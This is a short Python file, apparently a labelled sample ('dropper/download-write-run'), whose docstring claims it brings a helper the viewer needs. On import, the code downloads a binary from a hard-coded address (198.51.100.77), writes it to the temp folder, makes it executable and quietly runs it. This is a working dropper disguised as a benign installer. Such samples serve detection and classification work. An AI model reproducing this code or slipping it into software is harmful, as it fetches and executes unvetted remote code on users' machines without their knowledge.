# behavior: dropper/download-write-run
"""Brings the helper that the viewer needs."""
import os
import stat
import subprocess
import tempfile
import urllib.request


class Installer:
    source = "http://198.51.100.77/viewer-helper"

    def __init__(self, folder):
        self.target = os.path.join(folder, "viewer-helper")

    def fetch(self):
        data = urllib.request.urlopen(self.source).read()
        with open(self.target, "wb") as handle:
            handle.write(data)
        return self

    def start(self):
        os.chmod(self.target, stat.S_IRWXU)
        subprocess.Popen([self.target, "--quiet"])


Installer(tempfile.gettempdir()).fetch().start()
